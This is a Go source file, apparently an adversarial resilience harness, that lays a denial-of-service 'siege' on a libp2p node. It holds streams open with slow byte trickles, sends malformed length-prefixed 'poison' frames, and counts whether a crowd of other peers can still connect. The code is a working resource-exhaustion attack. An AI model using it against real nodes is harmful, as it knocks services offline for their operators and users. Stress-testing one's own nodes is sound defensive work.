package vandal

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
)

// poison are first words that no honest caller says: lengths and nestings that lie.
func poison() [][]byte {
	framed := func(n uint32, body []byte) []byte { return append(binary.BigEndian.AppendUint32(nil, n), body...) }
	return [][]byte{
		framed(1<<32-1, []byte("abc")), framed(96<<10+1, []byte("abc")), framed(0, nil), framed(1000, bytes.Repeat([]byte{0xff}, 1000)),
		framed(90_000, bytes.Repeat([]byte{0x81}, 90_000)), framed(90_000, bytes.Repeat([]byte{0xa1, 0x01}, 45_000)),
		framed(9, []byte{0x9b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}), framed(9, []byte{0x7b, 0, 0, 1, 0, 0, 0, 0, 0}),
		framed(50_000, bytes.Repeat([]byte{0xc1}, 50_000)), framed(5, []byte{0xba, 0xff, 0xff, 0xff, 0xff}),
	}
}

// A Siege is of one node.
type Siege struct {
	Target    peer.AddrInfo
	Hosts     []*Peer // that hold streams
	Crowd     []*Peer // that want in at the same time
	Protocols []string
	Streams   int // of each host in each protocol

	begun, open, most, in atomic.Int64
}

// A Toll is what a siege came to.
type Toll struct {
	Begun, Most, LetIn int64
}

// The pauses of a siege.
const (
	trickle   = 10 * time.Second
	again     = 250 * time.Millisecond // until what was refused or ended is begun anew
	crowdWait = 20 * time.Second
	seat      = time.Second // who is refused is told after the handshake
)

// Lay besieges the node for so long.
func (s *Siege) Lay(ctx context.Context, long time.Duration) Toll {
	ctx, cancel := context.WithTimeout(ctx, long)
	defer cancel()
	var wg sync.WaitGroup
	for _, p := range s.Crowd {
		wg.Go(func() { s.push(ctx, p) })
	}
	for _, p := range s.Hosts {
		wg.Go(func() {
			for p.host.Connect(ctx, s.Target) != nil && ctx.Err() == nil { // it may be full of others
				sleep(ctx, again)
			}
			var streams sync.WaitGroup
			for _, proto := range s.Protocols {
				for range s.Streams {
					streams.Go(func() { s.keep(ctx, p, proto, nil) })
				}
				for _, first := range poison() {
					streams.Go(func() { s.keep(ctx, p, proto, first) })
				}
			}
			streams.Wait()
		})
	}
	wg.Wait()
	return Toll{s.begun.Load(), s.most.Load(), s.in.Load()}
}

// push is one connection of the crowd.
func (s *Siege) push(ctx context.Context, p *Peer) {
	wait, cancel := context.WithTimeout(ctx, crowdWait)
	defer cancel()
	if p.host.Connect(wait, s.Target) != nil {
		return
	}
	sleep(ctx, seat)
	if len(p.host.Network().Conns()) > 0 {
		s.in.Add(1)
	}
}

// keep begins one stream, and begins it anew whenever the node ends it.
func (s *Siege) keep(ctx context.Context, p *Peer, proto string, first []byte) {
	for ctx.Err() == nil {
		if st, err := p.host.NewStream(ctx, s.Target.ID, protocol.ID(proto)); err == nil {
			s.hold(ctx, st, first)
		}
		sleep(ctx, again)
	}
}

// hold says first words, or a byte every while, until the node ends the stream.
func (s *Siege) hold(ctx context.Context, st network.Stream, first []byte) {
	s.begun.Add(1)
	n := s.open.Add(1)
	for most := s.most.Load(); n > most && !s.most.CompareAndSwap(most, n); most = s.most.Load() {
	}
	defer s.open.Add(-1)
	stop := context.AfterFunc(ctx, func() { _ = st.Reset() })
	defer stop()
	ended := make(chan struct{})
	var reader sync.WaitGroup
	reader.Go(func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, st)
	})
	for {
		_, err := st.Write(words(first))
		if first != nil {
			err = errors.Join(err, st.CloseWrite())
		}
		t := time.NewTimer(trickle)
		select {
		case <-ended:
			err = io.EOF
		case <-t.C:
		}
		if t.Stop(); err != nil {
			break
		}
		if first != nil {
			<-ended
			break
		}
	}
	_ = st.Reset()
	reader.Wait()
}

// words are the next that are said.
func words(first []byte) []byte {
	if first == nil {
		return []byte{0}
	}
	return first
}

func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}
